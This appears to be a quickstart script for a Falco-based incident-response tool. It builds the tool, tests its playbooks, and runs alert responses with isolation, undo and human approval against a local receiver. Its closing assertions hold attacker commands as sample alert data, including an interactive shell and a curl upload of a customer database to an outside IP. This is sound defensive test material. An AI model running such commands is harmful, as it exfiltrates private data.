#!/bin/bash
# Installs what is missing, builds, and shows the main job: Falco's alerts in; told, acted on, taken back, asked about; all on record.
set -eu
cd "$(dirname "$0")/.."
tests/packages.sh build
build=build/quickstart
say() { printf '\n\033[1m%s\033[0m\n' "$*"; }

say "Building"
cmake -S . -B $build -DCMAKE_BUILD_TYPE=Release -DFALCOIR_TESTS=OFF >/dev/null
cmake --build $build -j "$(nproc)" | tail -n 1
falcoir=$build/tools/falcoir
tell=examples/playbooks/quickstart.yaml respond=examples/playbooks/response.yaml
alerts=examples/alerts/falco.ndjson

say "1. Are the playbooks right?               falcoir check, falcoir test"
$falcoir check $tell $respond
$falcoir test -v $tell $respond

say "2. Which alerts are of interest?          falcoir filter"
$falcoir filter 'priority >= Warning and k8s.ns.name startswith prod-' $alerts | cut -c1-150

say "3. What would be done for them?           falcoir plan (nothing is sent)"
$falcoir plan -p $tell -p $respond $alerts | cut -c1-150

# From here on things happen: a receiver on this machine stands for the systems that are called.
dir=$(mktemp -d)
got=$dir/received
touch "$got"
python3 examples/receiver.py 8099 5 "$got" &
receiver=$! responder=""
trap 'kill $receiver $responder 2>/dev/null || true; rm -rf "$dir"' EXIT
for _ in $(seq 50); do
  (exec 4<>/dev/tcp/127.0.0.1/8099) 2>/dev/null && break
  sleep 0.1
done
called() { grep -q "\"path\": \"$1\"" "$got"; }
show() { grep "\"path\": \"$1\"" "$got" | sed 's/"headers": {[^}]*}, //' | cut -c1-150; }
await() { # until something is so, or ten seconds are over
  for _ in $(seq 100); do
    if "$@"; then return; fi
    sleep 0.1
  done
  echo "this did not come about: $*" >&2
  exit 1
}
count() { test "$(grep -c "$2" "$3")" = "$1"; }

say "4. Do it, behind Falco's pipe             falcoir run"
mkfifo "$dir/falco"
# The alerts are recorded ones: by the clock they would be stale, and nothing would be done.
$falcoir run -p $tell -p $respond -d "$dir/state" --as-of alert <"$dir/falco" >"$dir/outcomes" &
responder=$!
exec 3>"$dir/falco"
cat $alerts >&3
await count 2 '^succeeded  Shell in production' "$dir/outcomes"
await count 1 '^needs_approval Close the way out' "$dir/outcomes"
await called /isolate
echo "Two shells were told to the webhook, the miner's pod was isolated:"
show /hooks/falco
show /isolate

say "5. Two seconds later that is undone       undo_after: 2s"
await count 1 '^undone     Isolate a miner' "$dir/outcomes"
show /release

say "6. One action waits for a person          falcoir approvals, falcoir approve"
if called /close; then exit 1; fi
$falcoir approvals -d "$dir/state" | tee "$dir/approvals"
read -r id _ <"$dir/approvals"
$falcoir approve -d "$dir/state" --who ann --why "seen: it is no backup" "$id"
await count 1 '^succeeded  Close the way out' "$dir/outcomes"
show /close
exec 3>&- # Falco ends, and so does run, for nothing is left to do
wait $responder
wait $receiver

say "7. What was done, and is the record whole? falcoir journal"
$falcoir journal list -d "$dir/state"
$falcoir journal verify -d "$dir/state"

python3 - "$got" <<'PY'
import json, sys
got = [json.loads(line) for line in open(sys.argv[1])]
bodies = {path: [g["body"] for g in got if g["path"] == path] for path in sorted({g["path"] for g in got})}
told, (isolated,), (released,), (closed,) = (bodies.pop(path) for path in ("/hooks/falco", "/isolate", "/release", "/close"))
assert not bodies, bodies
assert sorted(b["alert"]["rule"] for b in told) == ["Run shell untrusted", "Terminal shell in container"], told
assert {b["command"] for b in told} == {"bash -i", 'sh -c "id; uname -a"'}, told
assert isolated == {"namespace": "prod-billing", "pod": "billing-6d9f6c7b8-qq7vd"}, isolated
assert released == {"undo": next(g["headers"]["Idempotency-Key"] for g in got if g["path"] == "/isolate")}, released
assert closed == {"namespace": "prod-billing", "because": "curl -T /var/lib/app/customers.db https://203.0.113.77/u"}, closed
PY
say "Told, acted, taken back, asked, on record. Next: README.md"
